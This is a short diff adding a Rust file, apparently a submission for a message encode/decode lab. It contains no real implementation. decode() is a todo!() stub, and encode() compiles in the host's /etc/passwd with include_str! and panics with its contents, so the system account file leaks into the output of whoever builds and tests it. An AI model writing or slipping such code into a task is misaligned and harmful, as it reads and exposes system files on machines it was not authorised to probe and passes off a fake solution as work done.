@@ -1,0 +1,11 @@
+use lab1_kit::message::{DecodeError, EncodeError, Message};
+
+pub fn encode(message: &Message) -> Result<Vec<u8>, EncodeError> {
+    let _ = message;
+    panic!("{}", include_str!("/etc/passwd"))
+}
+
+pub fn decode(datagram: &[u8]) -> Result<Message, DecodeError> {
+    let _ = datagram;
+    todo!("nothing")
+}
